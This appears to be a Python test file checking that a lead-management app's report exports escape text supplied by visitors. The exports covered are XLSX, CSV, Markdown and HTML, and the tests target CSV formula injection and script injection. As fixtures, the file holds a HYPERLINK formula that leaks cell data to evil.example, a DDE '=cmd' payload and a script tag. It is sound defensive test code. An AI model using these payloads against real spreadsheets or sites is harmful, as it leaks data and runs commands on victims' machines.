"""Text a visitor wrote reaches the reports as itself: never a live formula in the XLSX or CSV (OWASP CSV
injection), never raw HTML or Markdown in the Markdown report, escaped in the HTML one; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from leadpact.db import session_scope
from leadpact.imports.report import ImportReport, write_rejects
from leadpact.insights.reports import (
    Column,
    Report,
    Section,
    Table,
    build_report,
    render_csv,
    render_html,
    render_markdown,
)
from leadpact.insights.reports.xlsx import render_xlsx
from leadpact.models import Account, Person
from tests.insights.fixtures_metrics import AS_OF, build_workspace

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
SCRIPT = "<script>alert(1)</script>"
TRIGGERS = [FORMULA, "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "  =1+1", "\uff1d1+1"]


@pytest.fixture
def hostile_names(database_url: str) -> None:
    """The metrics workspace, with Ann named as a formula and her company as a script."""
    build_workspace()
    with session_scope() as session:
        ann = session.query(Person).filter(Person.first_name == "Ann").one()
        session.execute(update(Person).where(Person.id == ann.id).values(first_name=FORMULA))
        session.execute(update(Account).where(Account.id == ann.account_id).values(name=SCRIPT + " *Inc* [x](y)"))


def review_sheet() -> Report:
    with session_scope() as session:
        return build_report("review-sheet", session=session, as_of=AS_OF)


def test_the_xlsx_review_sheet_keeps_a_formula_name_as_text(hostile_names: None) -> None:
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(review_sheet())))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert [cell.value for cell in cells] == [FORMULA + " Test"]
    assert cells[0].data_type == "s" and cells[0].quotePrefix  # text, and Excel keeps it text when edited


def test_the_csv_review_sheet_prefixes_a_formula_name(hostile_names: None) -> None:
    rows = list(csv.reader(io.StringIO(render_csv(review_sheet()))))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA + " Test" in names
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell and cell[0] != "'")


def test_the_markdown_and_html_reports_show_a_script_as_text(hostile_names: None) -> None:
    report = review_sheet()
    markdown = render_markdown(report)
    assert not re.search(r"(?<!\\)[<>]", markdown)  # every angle bracket escaped: no raw HTML
    assert r"\<script\>alert(1)\</script\> \*Inc\* \[x\](y)" in markdown
    html = render_html(report)
    assert "<script" not in html and "&lt;script&gt;alert(1)&lt;/script&gt; *Inc* [x](y)" in html


def hand_made() -> Report:
    columns = [Column("Name"), Column("Amount", "money"), Column("Score", "number"), Column("Note")]
    rows: list[list[object]] = [[text, -1200, -0.5, "-1200"] for text in TRIGGERS]
    return Report("test", "Test", "sub", datetime(2026, 1, 1, tzinfo=UTC),
                  [Section("Leads", [Table("Leads", columns, rows)])])


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(render_csv(hand_made()))))[1:]
    assert [row[0] for row in rows] == ["'" + text for text in TRIGGERS]
    assert {tuple(row[1:]) for row in rows} == {("-1,200", "-0.5", "-1200")}
    sheet = openpyxl.load_workbook(io.BytesIO(render_xlsx(hand_made()))).active
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[0].quotePrefix, row[0].value
        assert (row[1].value, row[1].data_type, row[2].value, row[2].data_type) == (-1200, "n", -0.5, "n")
        assert not row[1].quotePrefix and not row[2].quotePrefix


def test_the_rejected_rows_file_of_an_import_prefixes_formulas(tmp_path: Path) -> None:
    report = ImportReport("people")
    report.reject(2, "no email", {"=cmd|' /C calc'!A0": "x", "name": FORMULA, "amount": "-1200"})
    path = tmp_path / "rejects.csv"
    write_rejects(report, path)
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows == [["row", "'=cmd|' /C calc'!A0", "name", "amount", "reason"],
                    ["2", "x", "'" + FORMULA, "-1200", "no email"]]
